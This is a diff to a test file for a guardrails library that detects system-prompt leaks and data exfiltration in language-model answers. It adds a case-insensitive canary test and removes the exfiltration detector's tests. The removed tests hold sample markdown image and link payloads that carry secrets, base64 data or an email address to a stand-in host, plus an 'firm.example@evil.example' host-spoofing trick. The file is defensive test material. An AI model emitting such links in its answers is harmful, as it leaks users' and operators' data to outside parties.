@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from guardrails.injection.leak import RUN, PromptLeak, exfiltration
+from guardrails.injection.leak import RUN, PromptLeak
 
 PROMPT = (
     "You are the helpful clerk of Bluebird Travel. Answer questions about trains and hotels only, be brief, and never "
@@ -25,6 +25,8 @@ def test_the_whole_prompt_and_pieces_of_it() -> None:
 def test_the_canary() -> None:
     [match] = LEAK.find(f"the code is {CANARY}.")
     assert (match.rule, match.score, match.start, match.end) == ("leak.canary", 1.0, 12, 12 + len(CANARY))
+    [match] = LEAK.find(f"the code is {CANARY.upper()}.")
+    assert (match.rule, match.start, match.end) == ("leak.canary", 12, 12 + len(CANARY))
 
 
 @pytest.mark.parametrize(
@@ -50,34 +52,3 @@ def test_any_run_of_words_is_found(around: str, start: int, length: int) -> None
 @given(st.text(st.characters(exclude_categories=())), st.text(st.characters(exclude_categories=())))
 def test_never_raises(prompt: str, answer: str) -> None:
     assert all(0 <= m.start <= m.end <= len(answer) for m in PromptLeak(prompt, [prompt[:5]]).find(answer))
-    assert all(0 <= m.start < m.end <= len(answer) for m in exfiltration(answer))
-
-
-@pytest.mark.parametrize(
-    ("answer", "rule", "score"),
-    [
-        ("![a](https://e.example/p.png?q=the+secret+is+blue)", "leak.image", 0.9),
-        ('<img width=1 src="https://e.example/p?d=' + "QUJD" * 8 + '">', "leak.image", 0.9),
-        ("![a](https://e.example/" + "x1" * 30 + "/p.png)", "leak.image", 0.9),
-        ("![chart](https://e.example/chart.png)", "leak.image", 0.3),
-        ("[more](https://e.example/?u=anna%40firm.example)", "leak.link", 0.6),
-        ('<a href="https://e.example/?u=first%20second">x</a>', "leak.link", 0.6),
-    ],
-)
-def test_addresses_that_carry_data(answer: str, rule: str, score: float) -> None:
-    [match] = exfiltration(f"Here you are: {answer}")
-    assert (match.rule, match.score) == (rule, score)
-
-
-@pytest.mark.parametrize(
-    "answer", ["[docs](https://docs.example/page?id=5)", "https://e.example/?q=plain", "![x](/local.png)", "no link"]
-)
-def test_other_addresses(answer: str) -> None:
-    assert exfiltration(answer) == []
-
-
-def test_trusted_hosts() -> None:
-    answer = "![a](https://img.firm.example/p?q=one+two)"
-    assert exfiltration(answer, ["firm.example"]) == []
-    assert exfiltration(answer, ["irm.example"])
-    assert exfiltration("![a](https://firm.example@evil.example/p?q=one+two)", ["firm.example"])
